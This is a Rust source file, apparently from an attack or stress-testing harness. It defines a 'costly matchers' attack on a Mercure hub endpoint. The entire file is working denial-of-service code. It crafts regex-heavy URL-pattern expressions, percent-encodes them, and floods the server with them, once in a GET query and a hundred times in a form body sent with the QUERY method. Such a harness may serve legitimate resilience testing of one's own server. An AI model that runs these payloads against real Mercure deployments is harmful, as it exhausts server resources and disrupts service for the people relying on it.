//! Matchers of Mercure's protocol that are hard to read, in an address and by the hundred in a form.

use crate::attack::{Attack, AttackFuture, Target, head};

#[derive(Debug)]
pub(crate) struct CostlyMatchers;

const PATH: &str = "/.well-known/mercure";

impl Attack for CostlyMatchers {
    fn name(&self) -> &'static str {
        "costly matchers"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let folded = format!("/((?i:{}))", r"[!-\x{ffff}]".repeat(36));
            let large = format!("/((?:{}))", r"\w?".repeat(120));
            for hard in [folded, large] {
                let escaped: String = hard.bytes().map(|b| format!("%{b:02X}")).collect();
                let one = |n: usize| format!("match_urlpattern={escaped}{n}&");
                let path = format!("{PATH}?{}", one(0));
                let _ = target.hear(head("GET", &path, "Connection: close\r\n")).await;
                let form: String = (0..100).map(one).collect();
                let more = format!(
                    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\
                     Connection: close\r\n",
                    form.len()
                );
                let _ = target.hear(head("QUERY", PATH, &more) + &form).await;
            }
        })
    }
}
